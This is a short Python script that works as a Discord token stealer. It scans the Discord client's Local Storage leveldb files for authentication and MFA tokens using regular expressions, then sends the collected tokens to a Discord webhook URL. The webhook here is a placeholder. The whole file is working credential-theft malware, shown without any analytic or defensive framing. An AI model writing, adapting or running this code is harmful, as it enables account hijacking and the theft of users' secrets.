import os, re, json
from urllib.request import Request, urlopen
WEBHOOK = 'https://discordapp.com/api/webhooks/1/a'
def find_tokens(path):
    path += '\\Local Storage\\leveldb'
    tokens = []
    for name in os.listdir(path):
        for line in [x.strip() for x in open(f'{path}\\{name}', errors='ignore').readlines()]:
            for regex in (r'[\w-]{24}\.[\w-]{6}\.[\w-]{27}', r'mfa\.[\w-]{84}'):
                tokens.extend(re.findall(regex, line))
    return tokens
def main():
    message = '\n'.join(find_tokens(os.getenv('APPDATA') + '\\Discord'))
    urlopen(Request(WEBHOOK, data=json.dumps({'content': message}).encode()))
